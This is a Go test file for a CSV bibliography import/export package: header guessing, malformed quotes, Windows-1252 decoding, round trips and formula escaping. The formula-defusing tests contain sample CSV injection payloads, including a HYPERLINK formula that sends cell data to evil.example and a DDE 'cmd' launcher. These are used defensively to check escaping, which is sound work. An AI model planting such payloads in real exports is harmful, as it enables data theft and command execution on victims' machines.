package csvfile_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/stretchr/testify/require"

	"quarry/internal/biblio"
	"quarry/internal/biblio/biblitest"
	"quarry/internal/biblio/csvfile"
	"quarry/internal/fault"
	"quarry/internal/research"
)

// format is Quarry CSV for the shared harness. Keywords share one cell
// joined by "; ", so a keyword with a semicolon comes back split; authors
// are written "Last, First, Suffix"; a file whose columns cannot be mapped
// fails as a whole (fault.EInvalid) before its first record.
func format() biblitest.Format {
	f := biblitest.New(csvfile.NewReader, csvfile.NewWriter)
	f.Carried = biblitest.KeywordsSplitOn(";")
	f.LinePerRecord = true
	f.FileErrors = true
	f.InvertsNames = true
	return f
}

func TestGuess(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		header []string
		want   map[string]string
	}{
		{"Quarry", strings.Split("id,title,authors,year,venue,volume,issue,pages,abstract,doi,pmid,arxiv_id,url,keywords,type,mark,note", ","),
			map[string]string{"title": "title", "authors": "authors", "year": "year", "venue": "venue", "volume": "volume", "issue": "issue", "pages": "pages", "abstract": "abstract", "doi": "doi", "pmid": "pmid", "arxiv_id": "arxiv_id", "url": "url", "keywords": "keywords", "type": "type", "mark": "mark", "note": "note"}},
		{"ScopusPrefersFullNames", []string{"\ufeffAuthors", "Author full names", "Title", "Source title", "Page start", "Page end", "Author Keywords", "Document Type", "PubMed ID", "Link"},
			map[string]string{"authors": "Author full names", "title": "Title", "venue": "Source title", "pages": "Page start", "keywords": "Author Keywords", "type": "Document Type", "pmid": "PubMed ID", "url": "Link"}},
		{"WoSTagsIgnoreKeywordsPlusID", []string{"PT", "AU", "AF", "TI", "SO", "DE", "ID", "PY", "DI", "PM"},
			map[string]string{"authors": "AF", "title": "TI", "venue": "SO", "keywords": "DE", "year": "PY", "doi": "DI", "pmid": "PM"}},
		{"ZoteroCSV", []string{"Key", "Item Type", "Publication Year", "Author", "Title", "Publication Title", "Abstract Note", "Url", "Manual Tags", "Notes"},
			map[string]string{"type": "Item Type", "year": "Publication Year", "authors": "Author", "title": "Title", "venue": "Publication Title", "abstract": "Abstract Note", "url": "Url", "keywords": "Manual Tags", "note": "Notes"}},
		{"NothingKnown", []string{"a", "b"}, map[string]string{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			require.Equal(t, tt.want, csvfile.Guess(tt.header))
		})
	}
}

func TestReaderScopus(t *testing.T) {
	t.Parallel()
	recs := format().ReadFile(t, "scopus.csv")
	require.Len(t, recs, 4)
	require.Equal(t, biblio.Record{
		Line: 2,
		Paper: research.RawPaper{
			ID: "doi:10.1186/s13054-018-1999-1", Title: "Sepsis bundles in the intensive care unit: a cohort study",
			Authors: []string{"Ana Müller", "Jörg-Peter Schäfer"}, Year: 2018, Venue: "Critical Care",
			Volume: "22", Issue: "1", Pages: "101-109",
			Abstract: "Background: sepsis is common.\nMethods: cohort of 1,204 patients; outcomes at 28 days.\n\n© 2018 The Authors.",
			DOI:      "10.1186/s13054-018-1999-1", PMID: "29999999",
			URL: "https://www.scopus.com/inward/record.uri?eid=2-s2.0-1&partnerID=40",
		},
		Type: biblio.Article, Keywords: []string{"sepsis", "intensive care", "bundles"},
	}, recs[0])
	require.Equal(t, 6, recs[1].Line, "the multi-line abstract above spans four lines")
	require.Equal(t, biblio.Conference, recs[1].Type)
	require.Equal(t, `Costs & benefits of 100% recall in "living" reviews`, recs[1].Paper.Title)
	require.Equal(t, "5-6", recs[1].Paper.Pages)
	require.Equal(t, biblio.Chapter, recs[2].Type)
	require.Equal(t, "233-250", recs[2].Paper.Pages)
	require.Equal(t, "e45", recs[3].Paper.Pages, "a start page without an end page")
	require.Equal(t, biblio.Misc, recs[3].Type)
}

func TestReaderWebOfScienceTabDelimited(t *testing.T) {
	t.Parallel()
	recs := format().ReadFile(t, "wos.txt")
	require.Len(t, recs, 3)
	first := recs[0]
	require.Equal(t, 2, first.Line)
	require.Equal(t, `"Living" systematic reviews: a survey`, first.Paper.Title, "an unquoted title starting with a quote stays in its cell")
	require.Equal(t, []string{"John Smith", "Ludwig van Beethoven"}, first.Paper.Authors)
	require.Equal(t, "JOURNAL OF CLINICAL EPIDEMIOLOGY", first.Paper.Venue)
	require.Equal(t, 2021, first.Paper.Year)
	require.Equal(t, "1-12", first.Paper.Pages)
	require.Equal(t, "33000001", first.Paper.PMID)
	require.Equal(t, []string{"living review", "automation"}, first.Keywords)
	require.Equal(t, biblio.Article, first.Type)
	require.Equal(t, []string{"Martin Luther King Jr."}, recs[1].Paper.Authors)
	require.Equal(t, biblio.Conference, recs[1].Type)
	require.Equal(t, "missing title", recs[2].Problem)
	require.Equal(t, 4, recs[2].Line)
}

func TestReaderEuropeanExcel(t *testing.T) {
	t.Parallel()
	recs := format().ReadFile(t, "excel_semicolon.csv")
	require.Len(t, recs, 3, "rows of empty cells are skipped")
	first := recs[0]
	require.Equal(t, "Effets de l'azote sur les sols : une synthèse", first.Paper.Title)
	require.Equal(t, []string{"Ana Müller", "Rémi Dupré"}, first.Paper.Authors)
	require.Equal(t, "Revue d'Écologie", first.Paper.Venue)
	require.Equal(t, biblio.Relevant, first.Mark)
	require.Equal(t, "coût 5 € ; à relire", first.Note, "Windows-1252 bytes are decoded, € included")
	require.Equal(t, "Titel; mit Semikolon", recs[1].Paper.Title)
	require.Equal(t, biblio.Irrelevant, recs[1].Mark)
	require.Equal(t, 5, recs[2].Line)
	require.Equal(t, []string{"Åsa Ångström"}, recs[2].Paper.Authors)
	require.Zero(t, recs[2].Paper.Year)
}

func TestReaderMissingFields(t *testing.T) {
	t.Parallel()
	recs := format().ReadFile(t, "missing.csv")
	require.Len(t, recs, 6)
	require.Equal(t, []string{"Ana Müller", "Li Wei"}, recs[0].Paper.Authors, `split on " and "`)
	require.Equal(t, "missing title", recs[1].Problem)
	require.Equal(t, 3, recs[1].Line)
	require.Empty(t, recs[2].Problem, "a short row is read as far as it goes")
	require.Equal(t, "Short row", recs[2].Paper.Title)
	require.Zero(t, recs[3].Paper.Year)
	require.Equal(t, []string{"year 9999 out of range"}, recs[4].Warnings)
	require.Equal(t, []string{"Jane Doe"}, recs[5].Paper.Authors)
	require.Equal(t, 7, recs[5].Line)
}

// TestReaderUnclosedQuoteSwallowsNothing: a cell that opens a quote and
// never closes it used to take every later row of the file into one cell
// (lazy quotes), silently. Now the row is reported on its line and skipped,
// and the rows after it import.
func TestReaderUnclosedQuoteSwallowsNothing(t *testing.T) {
	t.Parallel()
	recs := format().ReadFile(t, "unclosed_quote.csv")
	type got struct {
		Line           int
		Title, Problem string
	}
	var gots []got
	for _, r := range recs {
		gots = append(gots, got{r.Line, r.Paper.Title, r.Problem})
	}
	require.Equal(t, []got{
		{2, "First good paper", ""},
		{3, "", "malformed CSV row: a quote opens a cell and is never closed"},
		{4, "Third good paper", ""},
		{5, "Fourth good paper", ""},
	}, gots)
	require.Equal(t, []string{"Kim"}, recs[3].Paper.Authors)
	require.Equal(t, 2023, recs[3].Paper.Year)
}

// TestReaderStrayQuotes: a quote that closes a few lines later, or a cell
// that continues after its closing quote, makes that row a problem on the
// line where it starts instead of a junk record; a quote inside a cell that
// does not start with one is text; a real multi-line cell with "" and
// CRLF line endings still reads as one cell.
func TestReaderStrayQuotes(t *testing.T) {
	t.Parallel()
	recs := format().ReadFile(t, "stray_quotes.csv")
	require.Len(t, recs, 5)
	require.Equal(t, 2, recs[0].Line)
	require.Equal(t, "First good paper", recs[0].Paper.Title)
	require.Equal(t, "One paragraph.\n\nAnother, with \"quotes\" and a comma.", recs[0].Paper.Abstract)
	require.Equal(t, 5, recs[1].Line)
	require.Equal(t, "malformed CSV row: a quote opens a cell and is not closed on its line; the cell runs on to a stray quote on a later line", recs[1].Problem)
	require.Equal(t, 6, recs[2].Line)
	require.Equal(t, "Third good paper", recs[2].Paper.Title)
	require.Equal(t, 7, recs[3].Line)
	require.Equal(t, `malformed CSV row: text after the closing quote of a cell (a quote inside a quoted cell is written "")`, recs[3].Problem)
	require.Equal(t, 8, recs[4].Line)
	require.Equal(t, `Fifth paper with a "bare" quote`, recs[4].Paper.Title)
	require.Equal(t, []string{"Park"}, recs[4].Paper.Authors)
}

// TestReaderQuotedCellLimit: a quote left open in a long file is given up
// on after maxQuotedLines lines, so the reader does not hold the rest of
// the file; the lines it took still import.
func TestReaderQuotedCellLimit(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	b.WriteString("title;year\n\"Open;2020\n")
	for i := range 1500 {
		fmt.Fprintf(&b, "Paper %d;2021\n", i)
	}
	b.WriteString("Last;2022\"\n")
	recs := biblitest.ReadAll(t, csvfile.NewReader(strings.NewReader(b.String())))
	require.Len(t, recs, 1502)
	require.Equal(t, 2, recs[0].Line)
	require.Contains(t, recs[0].Problem, "not closed within 1000 lines")
	require.Equal(t, "Paper 0", recs[1].Paper.Title)
	require.Equal(t, 3, recs[1].Line)
	require.Equal(t, "Paper 1499", recs[1500].Paper.Title)
	require.Equal(t, 1502, recs[1500].Line)
	require.Equal(t, "Last", recs[1501].Paper.Title, "the quote that would have closed the cell is text in an unquoted cell")
}

func TestReaderMalformedHeader(t *testing.T) {
	t.Parallel()
	_, err := csvfile.NewReader(strings.NewReader("\"Title\" x,year\na,2020\n")).Next()
	require.Equal(t, fault.EInvalid, fault.ErrorCode(err))
	require.ErrorContains(t, err, "cannot read the CSV header on line 1: text after the closing quote of a cell")
}

func TestReaderColumnErrors(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name     string
		file     string
		columns  map[string]string
		wantMsg  string
		wantRead int
	}{
		{"NoTitleColumn", "no_title.csv", nil, "headers found: Name, Authors, Year", 0},
		{"OverrideGivesTitle", "no_title.csv", map[string]string{"title": "name"}, "", 1},
		{"OverrideMissingHeader", "missing.csv", map[string]string{"venue": "Journal"}, `no column "Journal"`, 0},
		{"UnknownField", "missing.csv", map[string]string{"colour": "title"}, `unknown field "colour"`, 0},
		{"UnmapTitle", "missing.csv", map[string]string{"title": ""}, "no title column", 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			f, err := os.Open(filepath.Join("testdata", tt.file))
			require.NoError(t, err)
			defer f.Close()
			r := csvfile.NewReaderWithColumns(f, tt.columns)
			rec, err := r.Next()
			if tt.wantMsg == "" {
				require.NoError(t, err)
				require.Equal(t, "x", rec.Paper.Title)
				return
			}
			require.Equal(t, fault.EInvalid, fault.ErrorCode(err))
			require.Contains(t, err.Error(), tt.wantMsg)
			_, again := r.Next()
			require.Equal(t, err, again, "the file-level error sticks")
		})
	}
}

func TestReaderEmptyAndIOError(t *testing.T) {
	t.Parallel()
	require.Empty(t, biblitest.ReadAll(t, csvfile.NewReader(strings.NewReader(""))))
	require.Empty(t, biblitest.ReadAll(t, csvfile.NewReader(strings.NewReader("title,year\n"))))
	boom := errors.New("disk on fire")
	r := csvfile.NewReader(io.MultiReader(strings.NewReader("title\nok\n"), iotest.ErrReader(boom)))
	var err error
	for err == nil {
		_, err = r.Next()
	}
	require.ErrorIs(t, err, boom)
}

func TestRoundTrip(t *testing.T) {
	t.Parallel()
	const header = "id,title,authors,year,venue,volume,issue,pages,abstract,doi,pmid,arxiv_id,url,keywords,type,mark,note,publisher,address,isbn,issn,editor,edition,series,language\n"
	_, out := format().RoundTrip(t, biblitest.Corpus(t))
	require.True(t, strings.HasPrefix(string(out), header))
	require.Contains(t, string(out), `,"Corp., Research and Development;",`, "a lone author with \" and \" is not split")
	require.Equal(t, header, string(format().Write(t, nil)))
}

// TestWriterDefusesFormulas: no cell of an export starts with a character
// that makes a spreadsheet run it as a formula; the apostrophe that
// prevents it is taken off again on reading, exactly where the writer put
// one, so values that start with apostrophes come back unchanged.
func TestWriterDefusesFormulas(t *testing.T) {
	t.Parallel()
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	recs := []biblio.Record{
		{Paper: research.RawPaper{Title: evil, Venue: "@handle", Pages: "-5", Abstract: "+1\nsecond line"}, Note: "\t=tab first"},
		{Paper: research.RawPaper{Title: "'=already quoted by hand", Authors: []string{"=SUM(A1:A9)"}}, Note: "''+two apostrophes"},
		{Paper: research.RawPaper{Title: "'Tis the season", Venue: "'"}, Note: "''"},
	}
	for i := range recs {
		biblio.Finish(&recs[i])
	}
	back, out := format().RoundTrip(t, recs)
	require.Equal(t, evil, back[0].Paper.Title)
	require.Equal(t, "'=already quoted by hand", back[1].Paper.Title)
	require.Equal(t, "'Tis the season", back[2].Paper.Title)

	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	require.NoError(t, err)
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" {
				require.NotContains(t, "=+-@\t\r", cell[:1], "cell %q", cell)
			}
		}
	}
	require.Equal(t, "'"+evil, rows[1][1])
	require.Equal(t, "'@handle", rows[1][4])
	require.Equal(t, "'-5", rows[1][7])
	require.Equal(t, "'+1\nsecond line", rows[1][8])
	require.Equal(t, "''=already quoted by hand", rows[2][1], "one more apostrophe, so the reader knows which to take off")
	require.Equal(t, "'=SUM(A1:A9)", rows[2][2])
	require.Equal(t, "'''+two apostrophes", rows[2][16])
	require.Equal(t, "'Tis the season", rows[3][1], "an apostrophe before anything else is left alone")
	require.Equal(t, "'", rows[3][4])
	require.Equal(t, "''", rows[3][16])
}

// FuzzReader checks the reader's promises on any input and that what was
// read survives write → read unchanged (biblitest.Format.FuzzRoundTrip).
func FuzzReader(f *testing.F) {
	format().AddSeeds(f, "testdata/*.*")
	f.Fuzz(format().FuzzRoundTrip)
}

func TestSheetWriterDefusesEveryCell(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w := csvfile.NewSheetWriter(&buf)
	require.NoError(t, w.Write([]string{"=cmd|' /C calc'!A0", "-sleep", "plain", "'Tis", "@x"}))
	w.Flush()
	require.NoError(t, w.Error())
	rows, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	require.Equal(t, [][]string{{"'=cmd|' /C calc'!A0", "'-sleep", "plain", "'Tis", "'@x"}}, rows)
}

// TestReaderReportsAYearThatIsNotOne: a year cell that holds something
// other than a year imports the record without a year and a warning
// quoting the value; a blank cell or "n.d." is an unknown year.
func TestReaderReportsAYearThatIsNotOne(t *testing.T) {
	t.Parallel()
	recs := format().Read(t, []byte("title,year\nDated,May 2020\nBlank,\nUndated,n.d.\nBad,abc\n"))
	require.Len(t, recs, 4)
	require.Equal(t, 2020, recs[0].Paper.Year)
	for _, r := range recs[1:3] {
		require.Empty(t, r.Problem, r.Paper.Title)
		require.Zero(t, r.Paper.Year)
	}
	require.Equal(t, 5, recs[3].Line)
	require.Empty(t, recs[3].Problem)
	require.Equal(t, "Bad", recs[3].Paper.Title)
	require.Equal(t, []string{`year "abc" is not a year`}, recs[3].Warnings)
}

// TestNamesAndBibliographicFieldsRoundTrip: the authors' split (a family
// name of several words, an organisation) and the bibliographic fields
// kept in Extra come back from Quarry's own CSV.
func TestNamesAndBibliographicFieldsRoundTrip(t *testing.T) {
	t.Parallel()
	rec := biblio.Record{Paper: research.RawPaper{Title: "Endoscopy"}, Names: []biblio.Name{
		{Last: "Wong Kee Song", First: "Louis M."}, {Literal: "National Nurses United"}, {Last: "Van de Walle", First: "Rik"},
	}}
	biblio.SetExtra(&rec, map[string]string{biblio.ExtraPublisher: "Elsevier", biblio.ExtraISBN: "978-0-12-813743-7", biblio.ExtraEditor: "Dringenberg, Hans C."})
	biblio.Finish(&rec)
	back := format().Read(t, format().Write(t, []biblio.Record{rec}))
	require.Len(t, back, 1)
	var inverted []string
	for _, n := range biblio.NamesOf(back[0]) {
		inverted = append(inverted, n.Inverted())
	}
	require.Equal(t, []string{"Wong Kee Song, Louis M.", "National Nurses United", "Van de Walle, Rik"}, inverted)
	require.Equal(t, rec.Paper.Authors, back[0].Paper.Authors)
	require.Equal(t, biblio.ExtraFields(rec), biblio.ExtraFields(back[0]))
}
